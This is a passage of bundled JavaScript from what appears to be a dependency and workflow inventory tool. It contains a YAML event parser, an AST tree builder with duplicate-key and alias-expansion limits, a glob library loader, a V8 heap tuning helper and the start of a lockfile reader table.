    if (args.length !== 1) throwError(state, "YAML directive accepts exactly one argument");
    const match2 = /^([0-9]+)\.([0-9]+)$/.exec(args[0]);
    if (match2 === null) throwError(state, "ill-formed argument of the YAML directive");
    if (parseInt(match2[1], 10) !== 1) throwError(state, "unacceptable YAML version of the document");
    state.directives.push({
      kind: "yaml",
      version: args[0]
    });
  } else if (name === "TAG") {
    if (args.length !== 2) throwError(state, "TAG directive accepts exactly two arguments");
    const [handle, prefix] = args;
    if (!PATTERN_TAG_HANDLE.test(handle)) throwError(state, "ill-formed tag handle (first argument) of the TAG directive");
    if (HAS_OWN.call(state.tagHandlers, handle)) throwError(state, `there is a previously declared suffix for "${handle}" tag handle`);
    if (!PATTERN_TAG_PREFIX.test(prefix)) throwError(state, "ill-formed tag prefix (second argument) of the TAG directive");
    state.tagHandlers[handle] = prefix;
    state.directives.push({
      kind: "tag",
      handle,
      prefix
    });
  }
  return true;
}
function readDocument(state) {
  state.directives = [];
  state.tagHandlers = /* @__PURE__ */ Object.create(null);
  let hasDirectives = false;
  skipSeparationSpace(state, true);
  while (readDirective(state)) {
    hasDirectives = true;
    skipSeparationSpace(state, true);
  }
  let explicitStart = false;
  let explicitEnd = false;
  let allowCompact = true;
  if (state.lineIndent === 0 && state.input.charCodeAt(state.position) === 45 && state.input.charCodeAt(state.position + 1) === 45 && state.input.charCodeAt(state.position + 2) === 45 && isWsOrEolOrEnd(state.input.charCodeAt(state.position + 3))) {
    explicitStart = true;
    const markerLine = state.line;
    state.position += 3;
    skipSeparationSpace(state, true);
    allowCompact = state.line > markerLine;
  } else if (hasDirectives) throwError(state, "directives end mark is expected");
  const documentEventIndex = state.events.length;
  if (!explicitStart && state.position === state.lineStart && state.input.charCodeAt(state.position) === 46 && testDocumentSeparator(state)) {
    state.position += 3;
    skipSeparationSpace(state, true);
    return;
  }
  addDocumentEvent(state, explicitStart, false);
  if (!parseNode(state, state.lineIndent - 1, CONTEXT_BLOCK_OUT, false, allowCompact, allowCompact)) addEmptyScalarEvent(state);
  skipSeparationSpace(state, true);
  if (state.position === state.lineStart && testDocumentSeparator(state)) {
    explicitEnd = state.input.charCodeAt(state.position) === 46;
    if (explicitEnd) {
      const markerLine = state.line;
      state.position += 3;
      skipSeparationSpace(state, true);
      if (state.line === markerLine && state.position < state.length) throwError(state, "end of the stream or a document separator is expected");
    }
  }
  const documentEvent = state.events[documentEventIndex];
  if (documentEvent?.type === EVENT_ID.DOCUMENT) documentEvent.explicitEnd = explicitEnd;
  addPopEvent(state);
  if (!explicitEnd && state.position < state.length && !testDocumentBoundary(state)) throwError(state, "end of the stream or a document separator is expected");
}
function parseEvents(input2, options) {
  const length = input2.length;
  const state = {
    ...DEFAULT_PARSER_OPTIONS,
    ...options,
    input: `${input2}\0`,
    length,
    position: 0,
    line: 0,
    lineStart: 0,
    lineIndent: 0,
    firstTabInLine: -1,
    depth: 0,
    directives: [],
    tagHandlers: /* @__PURE__ */ Object.create(null),
    events: []
  };
  const nullpos = input2.indexOf("\0");
  if (nullpos !== -1) YAMLException.throwAt(input2, nullpos, "null byte is not allowed in input", state.filename);
  while (state.position < state.length) {
    skipByteOrderMark(state);
    skipSeparationSpace(state, true);
    if (state.position >= state.length) break;
    const documentStart = state.position;
    readDocument(state);
    if (state.position === documentStart)
      throwError(state, "can not read a document");
  }
  return state.events;
}
var DEFAULT_LOAD_OPTIONS = {
  ...DEFAULT_PARSER_OPTIONS,
  ...DEFAULT_CONSTRUCTOR_OPTIONS
};
function loadDocuments(input2, options = {}) {
  const opts = {
    ...DEFAULT_LOAD_OPTIONS,
    ...options
  };
  const source = String(input2);
  const PARSER_OPT_KEYS = Object.keys(DEFAULT_PARSER_OPTIONS);
  const CONSTRUCTOR_OPT_KEYS = Object.keys(DEFAULT_CONSTRUCTOR_OPTIONS);
  return constructFromEvents(parseEvents(source, pick(opts, PARSER_OPT_KEYS)), {
    ...pick(opts, CONSTRUCTOR_OPT_KEYS),
    source
  });
}
function loadAll(input2, iteratorOrOptions, options) {
  let iterator = null;
  if (typeof iteratorOrOptions === "function") iterator = iteratorOrOptions;
  else if (iteratorOrOptions !== null && typeof iteratorOrOptions === "object") options = iteratorOrOptions;
  const documents = loadDocuments(input2, options);
  if (iterator === null) return documents;
  for (const document of documents) iterator(document);
}
function load(input2, options) {
  const documents = loadDocuments(input2, options);
  if (documents.length === 0) throw new YAMLException("expected a document, but the input is empty");
  if (documents.length === 1) return documents[0];
  throw new YAMLException("expected a single document in the stream, but found more");
}
function hasBit(mask, bit) {
  return (mask & 1 << bit) !== 0;
}
var DEFAULT_SCALAR_STYLE_RULES = {
  applyQuoteFlowKeysOption,
  doubleQuoteForInvisibles,
  doubleQuoteWhitespaceOnly,
  applyForceQuotesOption,
  tryLongOrMultilineAsBlock,
  quoteInvalidPlain,
  fallbackToDoubleQuoted
};
function _preferredQuotedStyle(layout) {
  if (layout.presenterOptions.quoteStyle === "single" && hasBit(layout.allowedStylesMask, SCALAR_STYLE.SINGLE_QUOTED)) return SCALAR_STYLE.SINGLE_QUOTED;
  return SCALAR_STYLE.DOUBLE_QUOTED;
}
function applyQuoteFlowKeysOption(layout) {
  if (!layout.presenterOptions.quoteFlowKeys) return;
  if (!layout.isKey || !layout.flowOnly || layout.style !== SCALAR_STYLE.PLAIN) return;
  layout.style = SCALAR_STYLE.DOUBLE_QUOTED;
}
function doubleQuoteForInvisibles(layout) {
  if (layout.style === SCALAR_STYLE.PLAIN && /[\t\x7F-\xA0\u2028\u2029\uFEFF\uFFFE\uFFFF]/.test(layout.node.value)) layout.style = SCALAR_STYLE.DOUBLE_QUOTED;
}
function doubleQuoteWhitespaceOnly(layout) {
  if (layout.style === SCALAR_STYLE.PLAIN && /^\s+$/.test(layout.node.value)) layout.style = SCALAR_STYLE.DOUBLE_QUOTED;
}
function applyForceQuotesOption(layout) {
  if (!layout.presenterOptions.forceQuotes) return;
  if (layout.isKey || layout.style !== SCALAR_STYLE.PLAIN) return;
  if (layout.node.tag !== layout.presenterOptions.schema.defaultScalarTag.tagName) return;
  layout.style = layout.node.value.includes("\n") ? SCALAR_STYLE.DOUBLE_QUOTED : _preferredQuotedStyle(layout);
}
function tryLongOrMultilineAsBlock(layout) {
  if (layout.style !== SCALAR_STYLE.PLAIN || layout.isKey) return;
  const value = layout.node.value;
  const multiline = value.indexOf("\n") !== -1;
  if (!hasBit(layout.allowedStylesMask, SCALAR_STYLE.LITERAL_BLOCK)) {
    if (multiline) layout.style = SCALAR_STYLE.DOUBLE_QUOTED;
    return;
  }
  const w = layout.presenterOptions.lineWidth;
  if (w === -1) {
    if (multiline) layout.style = SCALAR_STYLE.LITERAL_BLOCK;
    return;
  }
  const availableWidth = Math.max(Math.min(w, 40), w - layout.shiftOfContent);
  let position = 0;
  let shouldFold = false;
  while (position <= value.length) {
    let lineEnd = value.length;
    const nextLineBreak = value.indexOf("\n", position);
    if (nextLineBreak !== -1) lineEnd = nextLineBreak;
    const line = value.slice(position, lineEnd);
    if (line.length > availableWidth && line[0] !== " " && / [^ \t]/.test(line)) shouldFold = true;
    if (nextLineBreak === -1) break;
    position = nextLineBreak + 1;
  }
  if (shouldFold) layout.style = SCALAR_STYLE.FOLDED_BLOCK;
  else if (multiline) layout.style = SCALAR_STYLE.LITERAL_BLOCK;
}
function quoteInvalidPlain(layout) {
  if (layout.style === SCALAR_STYLE.PLAIN && !hasBit(layout.allowedStylesMask, SCALAR_STYLE.PLAIN)) layout.style = _preferredQuotedStyle(layout);
}
function fallbackToDoubleQuoted(layout) {
  if (!hasBit(layout.allowedStylesMask, layout.style)) layout.style = SCALAR_STYLE.DOUBLE_QUOTED;
}
var SRC_C_PRINTABLE = "[\\x09\\x0A\\x0D\\x20-\\x7E\\x85\\xA0-\\uD7FF\\uE000-\\uFFFD\\u{10000}-\\u{10FFFF}]";
var SRC_B_CHAR = "[\\n\\r]";
var SRC_C_BYTE_ORDER_MARK = "\\uFEFF";
var SRC_S_WHITE = "[ \\t]";
var SRC_NB_CHAR = `(?:(?!(?:${SRC_B_CHAR}|${SRC_C_BYTE_ORDER_MARK}))${SRC_C_PRINTABLE})`;
var SRC_NS_CHAR = `(?:(?!${SRC_S_WHITE})${SRC_NB_CHAR})`;
var SRC_NB_JSON = "[\\x09\\x20-\\uD7FF\\uE000-\\uFFFF\\u{10000}-\\u{10FFFF}]";
var SRC_C_INDICATOR = "[-?:,\\[\\]{}#&*!|>'\"%@`]";
var SRC_C_FLOW_INDICATOR = "[,\\[\\]{}]";
var SRC_NS_PLAIN_SAFE_FLOW_OUT = SRC_NS_CHAR;
var SRC_NS_PLAIN_SAFE_FLOW_IN = `(?:(?!${SRC_C_FLOW_INDICATOR})${SRC_NS_CHAR})`;
var SRC_NS_PLAIN_FIRST_FLOW_OUT = `(?:(?:(?!${SRC_C_INDICATOR})${SRC_NS_CHAR})|[?:-](?=${SRC_NS_PLAIN_SAFE_FLOW_OUT}))`;
var SRC_NS_PLAIN_FIRST_FLOW_IN = `(?:(?:(?!${SRC_C_INDICATOR})${SRC_NS_CHAR})|[?:-](?=${SRC_NS_PLAIN_SAFE_FLOW_IN}))`;
var SRC_NS_PLAIN_CHAR_FLOW_OUT = `(?:(?:(?![:#])${SRC_NS_PLAIN_SAFE_FLOW_OUT})|:(?=${SRC_NS_PLAIN_SAFE_FLOW_OUT}))#*`;
var SRC_NS_PLAIN_CHAR_FLOW_IN = `(?:(?:(?![:#])${SRC_NS_PLAIN_SAFE_FLOW_IN})|:(?=${SRC_NS_PLAIN_SAFE_FLOW_IN}))#*`;
var SRC_NB_NS_PLAIN_IN_LINE_FLOW_OUT = `(?:${SRC_S_WHITE}*${SRC_NS_PLAIN_CHAR_FLOW_OUT})*`;
var SRC_NB_NS_PLAIN_IN_LINE_FLOW_IN = `(?:${SRC_S_WHITE}*${SRC_NS_PLAIN_CHAR_FLOW_IN})*`;
var SRC_NS_PLAIN_ONE_LINE_FLOW_OUT = `${SRC_NS_PLAIN_FIRST_FLOW_OUT}#*${SRC_NB_NS_PLAIN_IN_LINE_FLOW_OUT}`;
var SRC_NS_PLAIN_ONE_LINE_FLOW_IN = `${SRC_NS_PLAIN_FIRST_FLOW_IN}#*${SRC_NB_NS_PLAIN_IN_LINE_FLOW_IN}`;
var SRC_NS_PLAIN_ONE_LINE_BLOCK_KEY = SRC_NS_PLAIN_ONE_LINE_FLOW_OUT;
var SRC_NS_PLAIN_ONE_LINE_FLOW_KEY = SRC_NS_PLAIN_ONE_LINE_FLOW_IN;
var SRC_S_NS_PLAIN_NEXT_LINE_FLOW_OUT = `\\n+${SRC_NS_PLAIN_CHAR_FLOW_OUT}${SRC_NB_NS_PLAIN_IN_LINE_FLOW_OUT}`;
var SRC_S_NS_PLAIN_NEXT_LINE_FLOW_IN = `\\n+${SRC_NS_PLAIN_CHAR_FLOW_IN}${SRC_NB_NS_PLAIN_IN_LINE_FLOW_IN}`;
var SRC_NS_PLAIN_MULTI_LINE_FLOW_OUT = `${SRC_NS_PLAIN_ONE_LINE_FLOW_OUT}(?:${SRC_S_NS_PLAIN_NEXT_LINE_FLOW_OUT})*`;
var SRC_NS_PLAIN_MULTI_LINE_FLOW_IN = `${SRC_NS_PLAIN_ONE_LINE_FLOW_IN}(?:${SRC_S_NS_PLAIN_NEXT_LINE_FLOW_IN})*`;
var NS_PLAIN_FLOW_OUT = new RegExp(`^(?:${SRC_NS_PLAIN_MULTI_LINE_FLOW_OUT})$`, "u");
var NS_PLAIN_FLOW_IN = new RegExp(`^(?:${SRC_NS_PLAIN_MULTI_LINE_FLOW_IN})$`, "u");
var NS_PLAIN_BLOCK_KEY = new RegExp(`^(?:${SRC_NS_PLAIN_ONE_LINE_BLOCK_KEY})$`, "u");
var NS_PLAIN_FLOW_KEY = new RegExp(`^(?:${SRC_NS_PLAIN_ONE_LINE_FLOW_KEY})$`, "u");
var NB_SINGLE_ONE_LINE = new RegExp(`^(?:${SRC_NB_JSON})*$`, "u");
var NB_SINGLE_MULTI_LINE = new RegExp(`^(?:${SRC_NB_JSON}|\\n)*$`, "u");
var BLOCK_SCALAR_CONTENT = new RegExp(`^(?:${SRC_NB_CHAR}|\\n)*$`, "u");
var DEFAULT_PRESENTER_OPTIONS = {
  indent: 2,
  seqNoIndent: false,
  seqInlineFirst: true,
  lineWidth: 80,
  flowBracketPadding: false,
  flowSkipCommaSpace: false,
  flowSkipColonSpace: false,
  quoteFlowKeys: false,
  quoteStyle: "single",
  forceQuotes: false,
  scalarStyleRules: Object.keys(DEFAULT_SCALAR_STYLE_RULES).map((name) => Reflect.get(DEFAULT_SCALAR_STYLE_RULES, name)),
  tagBeforeAnchor: false
};
var DEFAULT_DUMP_OPTIONS = {
  ...DEFAULT_PRESENTER_OPTIONS,
  schema: DUMP_SCHEMA,
  skipInvalid: false,
  noRefs: false,
  flowLevel: -1,
  sortKeys: false,
  transform: () => {
  }
};
var EVENT_DOCUMENT = EVENT_ID.DOCUMENT;
var EVENT_SEQUENCE = EVENT_ID.SEQUENCE;
var EVENT_MAPPING = EVENT_ID.MAPPING;
var EVENT_SCALAR = EVENT_ID.SCALAR;
var EVENT_ALIAS = EVENT_ID.ALIAS;
var EVENT_POP = EVENT_ID.POP;
var SCALAR_STYLE_PLAIN = SCALAR_STYLE.PLAIN;
var SCALAR_STYLE_SINGLE_QUOTED = SCALAR_STYLE.SINGLE_QUOTED;
var SCALAR_STYLE_DOUBLE_QUOTED = SCALAR_STYLE.DOUBLE_QUOTED;
var SCALAR_STYLE_LITERAL_BLOCK = SCALAR_STYLE.LITERAL_BLOCK;
var SCALAR_STYLE_FOLDED_BLOCK = SCALAR_STYLE.FOLDED_BLOCK;
var COLLECTION_STYLE_BLOCK = COLLECTION_STYLE.BLOCK;
var COLLECTION_STYLE_FLOW = COLLECTION_STYLE.FLOW;
var CHOMPING_CLIP = CHOMPING_MODE.CLIP;
var CHOMPING_STRIP = CHOMPING_MODE.STRIP;
var CHOMPING_KEEP = CHOMPING_MODE.KEEP;

// src/workspace/yaml-ast.ts
var Scalar = class {
  constructor(value, type, start, end) {
    this.value = value;
    this.type = type;
    this.start = start;
    this.end = end;
  }
  value;
  type;
  start;
  end;
  static PLAIN = "PLAIN";
  static QUOTE_SINGLE = "QUOTE_SINGLE";
  static QUOTE_DOUBLE = "QUOTE_DOUBLE";
  static BLOCK_LITERAL = "BLOCK_LITERAL";
  static BLOCK_FOLDED = "BLOCK_FOLDED";
  anchor = void 0;
  get range() {
    return [this.start, this.end, this.end];
  }
};
var Pair = class {
  constructor(key2, value) {
    this.key = key2;
    this.value = value;
  }
  key;
  value;
};
var YAMLMap = class {
  constructor(range, flow) {
    this.range = range;
    this.flow = flow;
  }
  range;
  flow;
  anchor = void 0;
  items = [];
};
var YAMLSeq = class {
  constructor(range, flow) {
    this.range = range;
    this.flow = flow;
  }
  range;
  flow;
  anchor = void 0;
  items = [];
};
var Alias = class {
  constructor(source, target2, range) {
    this.source = source;
    this.target = target2;
    this.range = range;
  }
  source;
  target;
  range;
  /** The anchored node (kept as a method so callers read like the `yaml` package's). */
  resolve() {
    return this.target;
  }
};
var Document = class {
  constructor(contents) {
    this.contents = contents;
  }
  contents;
  /** Nodes written in the document (aliases count as one). */
  nodes = 0;
  /** Alias nodes in the document. */
  aliases = 0;
  /** Offsets of plain `<<` keys (YAML 1.1 merge keys, which GitHub's workflow parser refuses). */
  mergeKeys = [];
};
var isScalar = (node) => node instanceof Scalar;
var isMap = (node) => node instanceof YAMLMap;
var isSeq = (node) => node instanceof YAMLSeq;
var isAlias = (node) => node instanceof Alias;
var isNode = (node) => isScalar(node) || isMap(node) || isSeq(node) || isAlias(node);
var YamlSyntaxError = class extends Error {
  constructor(message2, offset, line, column) {
    super(message2);
    this.offset = offset;
    this.line = line;
    this.column = column;
  }
  offset;
  line;
  column;
};
var STYLE = {
  [SCALAR_STYLE.PLAIN]: "PLAIN",
  [SCALAR_STYLE.SINGLE_QUOTED]: "QUOTE_SINGLE",
  [SCALAR_STYLE.DOUBLE_QUOTED]: "QUOTE_DOUBLE",
  [SCALAR_STYLE.LITERAL_BLOCK]: "BLOCK_LITERAL",
  [SCALAR_STYLE.FOLDED_BLOCK]: "BLOCK_FOLDED"
};
var CORE_TAG_PREFIX = "tag:yaml.org,2002:";
function mayResolve(raw) {
  if (raw === "") return true;
  const c = raw.charCodeAt(0);
  return c >= 48 && c <= 57 || c === 45 || c === 43 || c === 46 || c === 126 || c === 110 || c === 78 || c === 116 || c === 84 || c === 102 || c === 70;
}
function parseYamlDocuments(text, options = {}) {
  let events;
  let input2 = text;
  for (let attempt = 0; ; attempt += 1) {
    try {
      events = parseEvents(input2, { maxDepth: options.maxDepth ?? 100 });
      break;
    } catch (error) {
      const joined = attempt < MAX_BRACKET_JOINS ? joinClosingBracket(input2, error) : null;
      if (joined === null) throw toSyntaxError(error, text);
      input2 = joined;
    }
  }
  return new TreeBuilder(text).build(events);
}
var MAX_BRACKET_JOINS = 200;
function joinClosingBracket(input2, error) {
  if (error.reason !== "deficient indentation") return null;
  const position = error.mark?.position;
  if (typeof position !== "number") return null;
  let at = position;
  while (at < input2.length && (input2[at] === " " || input2[at] === "	")) at += 1;
  if (input2[at] !== "]" && input2[at] !== "}") return null;
  const lineStart = input2.lastIndexOf("\n", at - 1);
  if (lineStart < 0 || input2.slice(lineStart + 1, at).trim() !== "") return null;
  const previousStart = input2.lastIndexOf("\n", lineStart - 1) + 1;
  const previous = input2.slice(previousStart, lineStart);
  if (/(^|\s)#/.test(previous)) return null;
  const cr = input2[lineStart - 1] === "\r" ? 1 : 0;
  return input2.slice(0, lineStart - cr) + " ".repeat(1 + cr) + input2.slice(lineStart + 1);
}
var TreeBuilder = class {
  constructor(text) {
    this.text = text;
  }
  text;
  documents = [];
  anchors = /* @__PURE__ */ new Map();
  stack = [];
  /** Where the last token read ended: where an empty value sits and where a collection ends. */
  lastEnd = 0;
  build(events) {
    for (const event of events) {
      switch (event.type) {
        case EVENT_ID.DOCUMENT:
          this.documents.push(new Document(null));
          this.anchors.clear();
          this.stack.push({ node: null, key: void 0, keys: void 0 });
          break;
        case EVENT_ID.MAPPING:
        case EVENT_ID.SEQUENCE: {
          const range = [event.start, event.start, event.start];
          const flow = event.style === 2;
          const node = event.type === EVENT_ID.MAPPING ? new YAMLMap(range, flow) : new YAMLSeq(range, flow);
          if (event.anchorStart >= 0) node.anchor = this.text.slice(event.anchorStart, event.anchorEnd);
          this.stack.push({ node, key: void 0, keys: void 0 });
          this.lastEnd = event.start + 1;
          break;
        }
        case EVENT_ID.SCALAR:
          this.attach(this.scalar(event));
          break;
        case EVENT_ID.ALIAS: {
          const name = this.text.slice(event.anchorStart, event.anchorEnd);
          const target2 = this.anchors.get(name);
          if (!target2) throw new YamlSyntaxError(`unknown anchor "${name}" for alias *${name}`, event.anchorStart - 1);
          this.lastEnd = event.anchorEnd;
          this.attach(new Alias(name, target2, [event.anchorStart - 1, event.anchorEnd, event.anchorEnd]));
          break;
        }
        case EVENT_ID.POP: {
          const frame = this.stack.pop();
          if (!frame?.node) break;
          const node = frame.node;
          const end = node.flow ? this.closingBracket(
            node instanceof YAMLMap ? 125 : 93
            /* ] */
          ) : this.lastEnd;
          node.range[1] = end;
          node.range[2] = end;
          this.lastEnd = end;
          this.attach(node);
          break;
        }
      }
    }
    return this.documents;
  }
  scalar(event) {
    const type = STYLE[event.style] ?? "PLAIN";
    let value;
    let start;
    let end;
    if (event.valueStart < 0) {
      value = null;
      start = end = this.lastEnd;
    } else {
      const raw = getScalarValue(this.text, event);
      if (event.tagStart >= 0) value = this.tagged(this.text.slice(event.tagStart, event.tagEnd), raw);
      else value = type === "PLAIN" && mayResolve(raw) ? CORE_SCHEMA.resolveImplicitScalarTag(raw).value : raw;
      if (type === "QUOTE_DOUBLE" || type === "QUOTE_SINGLE") {
        start = event.valueStart - 1;
        end = event.valueEnd + 1;
      } else {
        start = type === "BLOCK_LITERAL" || type === "BLOCK_FOLDED" ? this.blockHeader(event.valueStart) : event.valueStart;
        end = event.valueEnd;
      }
      this.lastEnd = end;
    }
    const node = new Scalar(value, type, start, end);
    if (event.anchorStart >= 0) node.anchor = this.text.slice(event.anchorStart, event.anchorEnd);
    return node;
  }
  /** The value of an explicitly tagged scalar: core tags are resolved, any other tag keeps the text. */
  tagged(tag, raw) {
    const name = tag.startsWith("!!") ? CORE_TAG_PREFIX + tag.slice(2) : tag.startsWith("!<") ? tag.slice(2, -1) : tag;
    const definition = name.startsWith(CORE_TAG_PREFIX) ? CORE_SCHEMA.lookupScalarTag(name) : void 0;
    if (!definition) return raw;
    const value = definition.resolve(raw, true, name);
    return value === NOT_RESOLVED ? raw : value;
  }
  /** Offset of a block scalar's `|` or `>` indicator: on the line before its content, after the key. */
  blockHeader(contentStart) {
    const text = this.text;
    let lineEnd = contentStart - 1;
    while (lineEnd > 0 && text.charCodeAt(lineEnd) !== 10) lineEnd -= 1;
    const from = Math.min(this.lastEnd, lineEnd);
    for (let i = from; i < lineEnd; i += 1) {
      const c = text.charCodeAt(i);
      if (c === 35 && i > from && (text.charCodeAt(i - 1) === 32 || text.charCodeAt(i - 1) === 9)) break;
      if (c !== 124 && c !== 62) continue;
      let j = i + 1;
      while (j < lineEnd && /[0-9+-]/.test(text[j])) j += 1;
      const after = text.charCodeAt(j);
      if (j >= lineEnd || after === 32 || after === 9 || after === 13) return i;
    }
    return Math.max(0, Math.min(contentStart, lineEnd));
  }
  /** End of a flow collection: just past its closing bracket (after the last item, spaces, commas, comments). */
  closingBracket(bracket) {
    const text = this.text;
    for (let i = this.lastEnd; i < text.length; i += 1) {
      const c = text.charCodeAt(i);
      if (c === bracket) return i + 1;
      if (c === 35) {
        while (i < text.length && text.charCodeAt(i) !== 10) i += 1;
      }
    }
    return text.length;
  }
  attach(node) {
    const document = this.documents[this.documents.length - 1];
    if (document) {
      document.nodes += 1;
      if (node instanceof Alias) document.aliases += 1;
    }
    if (!(node instanceof Alias) && node.anchor !== void 0) this.anchors.set(node.anchor, node);
    const frame = this.stack[this.stack.length - 1];
    if (!frame) return;
    const parent = frame.node;
    if (parent === null) {
      if (document) document.contents = node;
    } else if (parent instanceof YAMLSeq) {
      parent.items.push(node);
    } else if (frame.key === void 0) {
      this.checkUnique(frame, parent, node);
      frame.key = node;
    } else {
      parent.items.push(new Pair(frame.key, node));
      frame.key = void 0;
    }
  }
  checkUnique(frame, map, key2) {
    if (!(key2 instanceof Scalar)) return;
    const name = String(key2.value);
    if (name === "<<" && key2.type === "PLAIN") {
      this.documents[this.documents.length - 1]?.mergeKeys.push(key2.start);
      return;
    }
    let duplicate = false;
    if (frame.keys) duplicate = frame.keys.has(name);
    else {
      for (const pair of map.items) if (pair.key instanceof Scalar && String(pair.key.value) === name) duplicate = true;
      if (map.items.length >= 8) frame.keys = new Set(map.items.flatMap((pair) => pair.key instanceof Scalar ? [String(pair.key.value)] : []));
    }
    if (duplicate) throw new YamlSyntaxError(`duplicate key "${name}" in a mapping`, key2.start);
    frame.keys?.add(name);
  }
};
function toSyntaxError(error, text) {
  const mark = error.mark;
  const reason = error.reason ?? error.message ?? String(error);
  const offset = Math.max(0, Math.min(mark?.position ?? 0, text.length));
  const line = typeof mark?.line === "number" ? mark.line + 1 : void 0;
  const column = typeof mark?.column === "number" ? mark.column + 1 : void 0;
  return new YamlSyntaxError(reason, offset, line, column);
}
var AliasExpansionError = class extends Error {
};
function expandedSize(root, limit) {
  const sizes = /* @__PURE__ */ new Map();
  const size = (node) => {
    if (node === null) return 1;
    if (node instanceof Alias) return size(node.target);
    if (node instanceof Scalar) return 1;
    const known2 = sizes.get(node);
    if (known2 !== void 0) return known2;
    let total = 1;
    if (node instanceof YAMLSeq) {
      for (const item of node.items) if ((total += size(item)) > limit) break;
    } else {
      for (const pair of node.items) if ((total += size(pair.key) + size(pair.value)) > limit) break;
    }
    total = Math.min(total, limit + 1);
    sizes.set(node, total);
    return total;
  };
  return size(root);
}
function toJS(root, maxNodes = 1e5) {
  let budget = maxNodes;
  const convert = (node) => {
    if ((budget -= 1) < 0) throw new AliasExpansionError(`the document expands to more than ${maxNodes} nodes`);
    if (node === null) return null;
    if (node instanceof Alias) return convert(node.target);
    if (node instanceof Scalar) return node.value;
    if (node instanceof YAMLSeq) return node.items.map(convert);
    const out = {};
    for (const pair of node.items) {
      const key2 = convert(pair.key);
      const name = key2 !== null && typeof key2 === "object" ? JSON.stringify(key2) : String(key2);
      const value = convert(pair.value);
      if (name === "__proto__") Object.defineProperty(out, name, { value, enumerable: true, writable: true, configurable: true });
      else out[name] = value;
    }
    return out;
  };
  return convert(root);
}
function allScalars(root) {
  const found = [];
  const walk = (node) => {
    if (node instanceof Scalar) found.push(node);
    else if (node instanceof YAMLSeq) for (const item of node.items) walk(item);
    else if (node instanceof YAMLMap) {
      for (const pair of node.items) {
        walk(pair.key);
        walk(pair.value);
      }
    }
  };
  walk(root);
  return found;
}
var LineIndex = class {
  constructor(text) {
    this.text = text;
  }
  text;
  starts = null;
  linePos(offset) {
    const starts = this.starts ??= lineStarts(this.text);
    const at = Math.max(0, Math.min(offset, this.text.length));
    let low = 0;
    let high = starts.length - 1;
    while (low < high) {
      const mid = low + high + 1 >> 1;
      if (starts[mid] <= at) low = mid;
      else high = mid - 1;
    }
    return { line: low + 1, col: at - starts[low] + 1 };
  }
};
function lineStarts(text) {
  let count = 1;
  for (let i = text.indexOf("\n"); i !== -1; i = text.indexOf("\n", i + 1)) count += 1;
  const starts = new Int32Array(count);
  let line = 1;
  for (let i = text.indexOf("\n"); i !== -1; i = text.indexOf("\n", i + 1)) starts[line++] = i + 1;
  return starts;
}

// src/workspace/yaml.ts
var MAX_ALIAS_NODES = 1e4;
function parseYaml(path14, text) {
  const lineCounter = new LineIndex(text);
  let documents;
  try {
    documents = parseYamlDocuments(text);
  } catch (error) {
    if (!(error instanceof YamlSyntaxError)) throw error;
    const position = syntaxErrorPosition(text, lineCounter, error);
    return { ok: false, failure: { path: path14, message: cleanMessage(error.message), line: position.line, column: position.col } };
  }
  if (documents.length > 1) {
    const content = documents[1]?.contents?.range[0] ?? text.length;
    const marker = text.lastIndexOf("\n---", content);
    const position = lineCounter.linePos(marker === -1 ? content : marker + 1);
    return {
      ok: false,
      failure: {
        path: path14,
        message: `the file holds ${documents.length} YAML documents (separated by ---) where one is expected`,
        line: position.line,
        column: position.col
      }
    };
  }
  const doc = documents[0] ?? new Document(null);
  const limit = doc.nodes + MAX_ALIAS_NODES;
  if (doc.aliases > 0 && expandedSize(doc.contents, limit) > limit) {
    return {
      ok: false,
      failure: { path: path14, message: `aliases add more than ${MAX_ALIAS_NODES} nodes to the document: refusing a possible alias bomb`, line: 1, column: 1 }
    };
  }
  let value;
  let converted = false;
  const file = {
    path: path14,
    text,
    lineCounter,
    doc,
    get value() {
      if (!converted) {
        value = toJS(doc.contents, limit);
        converted = true;
      }
      return value;
    }
  };
  return { ok: true, file };
}
function syntaxErrorPosition(text, lines2, error) {
  return errorPosition(text, error.line !== void 0 && error.column !== void 0 ? { line: error.line, col: error.column } : lines2.linePos(error.offset));
}
function errorPosition(text, position) {
  const lines2 = text.split("\n");
  let line = position.line;
  while (line > 1 && (lines2[line - 1] ?? "").trim() === "") line -= 1;
  return line === position.line ? position : { line, col: 1 };
}
function cleanMessage(message2) {
  return message2.split("\n")[0]?.replace(/ at line \d+, column \d+:?$/, "") ?? message2;
}
function locate(file, target2) {
  const [start, end] = isNode(target2) ? target2.range : target2;
  const startPos = file.lineCounter.linePos(start);
  const endPos = file.lineCounter.linePos(Math.max(start, end - 1));
  return { path: file.path, startLine: startPos.line, startColumn: startPos.col, endLine: endPos.line, endColumn: endPos.col };
}

// src/policy/glob-library.ts
var library;
var GlobLibraryPending = class extends Error {
  constructor() {
    super("internal: the glob library (minimatch) was used before it was loaded");
  }
};
function globLibrary() {
  if (!library) throw new GlobLibraryPending();
  return library;
}
async function loadGlobLibrary() {
  library ??= await import("./esm-DS3ACK3O.js");
  return library;
}
async function withGlobLibrary(evaluate) {
  try {
    return await evaluate();
  } catch (error) {
    if (!(error instanceof GlobLibraryPending)) throw error;
    await loadGlobLibrary();
    return evaluate();
  }
}

// src/runtime/young-generation.ts
var CAP_BYTES = 4 * 1024 * 1024;
var OLD_GROWTH_PERCENT = 60;
var FIRST = 64;
var EVERY = 8;
var capped = false;
var calls = 0;
function capYoungGeneration(large = false) {
  if (capped) return;
  ++calls;
  if (!large && (calls < FIRST || calls % EVERY !== 0)) return;
  const v8 = process.getBuiltinModule("node:v8");
  const young = v8.getHeapSpaceStatistics().find((space) => space.space_name === "new_space");
  if (!young || young.space_size < CAP_BYTES) return;
  v8.setFlagsFromString("--semi-space-growth-factor=1");
  v8.setFlagsFromString(`--heap-growing-percent=${OLD_GROWTH_PERCENT}`);
  capped = true;
}

// src/inventory/model.ts
function emptyOutcome(...problems) {
  return { packages: [], edges: [], problems };
}
var MAX_LOCKFILE_BYTES = 128 * 1024 * 1024;
function packageKey(pkg) {
  return [pkg.ecosystem, pkg.name, pkg.version ?? "", pkg.location.path].join("\0");
}

// src/escape-regexp.ts
function escapeRegExp(text) {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

// src/inventory/readers/index.ts
var named = (...names) => (basename) => names.includes(basename);
var NPM_LOCKFILES = ["package-lock.json", "npm-shrinkwrap.json", "yarn.lock", "pnpm-lock.yaml", "bun.lock"];
var PYTHON_LOCKFILES = ["poetry.lock", "uv.lock", "Pipfile.lock", "pylock.toml", "pdm.lock"];
var READERS = [
  // JavaScript
  {
    format: "package-lock",
    ecosystem: "npm",
    matches: named("package-lock.json", "npm-shrinkwrap.json"),
